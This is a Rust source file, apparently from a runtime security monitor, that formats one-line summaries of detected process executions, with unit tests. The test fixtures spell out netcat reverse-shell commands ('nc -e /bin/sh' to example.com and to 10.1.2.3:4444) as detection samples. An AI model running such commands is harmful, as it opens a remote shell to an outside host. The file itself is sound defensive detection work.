//! The one-line summary (<= 300 chars, deterministic): what ran, where (container id or host),
//! why it matters, and the key evidence. States test activity, failed execs ("attempted"), and
//! "parent unknown" when lineage is missing and there is a finding.

use std::fmt::Write as _;

use super::escape::{escape_into, escape_joined_into};
use crate::analysis::{Lineage, Verdict};
use crate::facts::{ExeFlags, ExecFacts};
use crate::text::basename;

/// Most characters in a summary.
pub const MAX_SUMMARY: usize = 300;

pub fn summary_line(facts: &ExecFacts, lineage: &Lineage, v: &Verdict) -> String {
    let exe_name = basename(facts.exe());
    let flag = |bit: u32| facts.exe_flags.is_some_and(|f| f.0 & bit != 0);
    let mut s = String::with_capacity(160);
    if v.test_activity {
        s.push_str("test activity (event-generator): ");
    }
    let failed = facts.res.is_some_and(|r| r != 0);
    let lead = v.hits.iter().find(|h| h.signal.weight > 0);
    match lead {
        Some(h) => {
            // Category ids are ours (ASCII, `_`-separated): spaces for reading.
            s.extend(v.category.chars().map(|c| if c == '_' { ' ' } else { c }));
            s.push_str(": ");
            if failed {
                s.push_str("attempted ");
            }
            escape_into(&mut s, &h.evidence, 120);
        }
        None => {
            s.push_str(if v.test_activity { "" } else { "benign: " });
            if failed {
                s.push_str("attempted ");
            }
            escape_joined_into(&mut s, &facts.argv, 100);
        }
    }
    if flag(ExeFlags::LOWER_LAYER) {
        s.push_str(" using ");
        escape_into(&mut s, exe_name, 40);
        s.push_str(" shipped in the image");
    } else if flag(ExeFlags::UPPER_LAYER) {
        s.push_str(" using ");
        escape_into(&mut s, exe_name, 40);
        s.push_str(" added after the container started (drift)");
    } else if flag(ExeFlags::FROM_MEMFD) {
        s.push_str(" run from memory (memfd)");
    }
    match facts.uid {
        Some(0) => s.push_str(", as root"),
        Some(u) => {
            let _ = write!(s, ", as uid {u}");
        }
        None => {}
    }
    match &facts.container {
        Some(c) => {
            s.push_str(" in ");
            s.push_str(&super::container_label(c));
        }
        None if facts.cgroups_present => s.push_str(" on the host"),
        None => {}
    }
    match lineage.parent() {
        Some(p) => {
            s.push_str(" (parent ");
            escape_into(&mut s, &p.comm, 32);
            s.push(')');
        }
        None if !lineage.known && lead.is_some() => s.push_str(" (parent unknown)"),
        None => {}
    }
    if v.notes.iter().any(|n| n.contains("most likely failed")) {
        s.push_str("; netcat-openbsd has no -e, so it likely failed");
    }
    if failed {
        let _ = write!(s, "; exec failed (res={})", facts.res.unwrap_or(0));
    }
    // Byte length bounds the character count: count only when it may exceed.
    if s.len() > MAX_SUMMARY && s.chars().count() > MAX_SUMMARY {
        let cut = s
            .char_indices()
            .nth(MAX_SUMMARY - 1)
            .map_or(s.len(), |(i, _)| i);
        s.truncate(cut);
        s.push('…');
    }
    s
}

#[cfg(test)]
mod tests {
    use super::summary_line;
    use crate::analysis::{analyze, Lineage};
    use crate::facts::{ContainerInfo, ContainerRuntime, ExeFlags, ExecFacts};

    fn summary(facts: &ExecFacts, lineage: &Lineage) -> String {
        summary_line(facts, lineage, &analyze(facts, lineage))
    }

    fn seed() -> ExecFacts {
        ExecFacts {
            argv: ["nc", "-e", "/bin/sh", "example.com", "22"]
                .iter()
                .map(|s| s.to_string())
                .collect(),
            exe_path: Some("/usr/bin/nc.openbsd".into()),
            comm: Some("nc".into()),
            uid: Some(0),
            res: Some(0),
            exe_flags: Some(ExeFlags(ExeFlags::WRITABLE | ExeFlags::LOWER_LAYER)),
            container: Some(ContainerInfo {
                runtime: ContainerRuntime::Docker,
                short_id: "1d45a96b1daa".into(),
            }),
            cgroups_present: true,
            ..Default::default()
        }
    }

    #[test]
    fn seed_alert_summary_reads_it_correctly() {
        let s = &summary(&seed(), &Lineage::from_comms(["event-generator"]));
        assert!(
            s.starts_with(
                "test activity (event-generator): reverse shell: nc -e /bin/sh to example.com:22"
            ),
            "{s}"
        );
        assert!(s.contains("shipped in the image"), "{s}");
        assert!(
            s.contains("as root in container 1d45a96b1daa (parent event-generator)"),
            "{s}"
        );
        assert!(s.contains("likely failed"), "{s}");
        assert!(s.chars().count() <= 300);
    }

    #[test]
    fn real_reverse_shell_and_unknown_parent() {
        let mut f = seed();
        f.argv = ["nc", "-e", "/bin/sh", "10.1.2.3", "4444"]
            .iter()
            .map(|s| s.to_string())
            .collect();
        f.exe_path = Some("/bin/nc.traditional".into());
        assert_eq!(
            summary(&f, &Lineage::default()),
            "reverse shell: nc -e /bin/sh to 10.1.2.3:4444 using nc.traditional shipped in the image, as root in container 1d45a96b1daa (parent unknown)"
        );
    }

    #[test]
    fn failed_exec_is_attempted_and_text_is_escaped() {
        let mut f = seed();
        f.res = Some(-2);
        f.argv[3] = "evil\x1b[2J\nhost".into();
        let s = summary(&f, &Lineage::from_comms(["sh"]));
        assert!(s.contains("attempted nc -e"), "{s}");
        assert!(s.contains("exec failed (res=-2)"));
        assert!(!s.contains('\x1b') && !s.contains('\n'));
    }

    #[test]
    fn summary_is_bounded() {
        let mut f = seed();
        f.argv = vec![
            "nc".into(),
            "-e".into(),
            "/bin/sh".into(),
            "h".repeat(5000),
            "1".into(),
        ];
        let s = summary(&f, &Lineage::from_comms(["x".repeat(1000)]));
        assert!(s.chars().count() <= 300, "{}", s.len());
    }
}
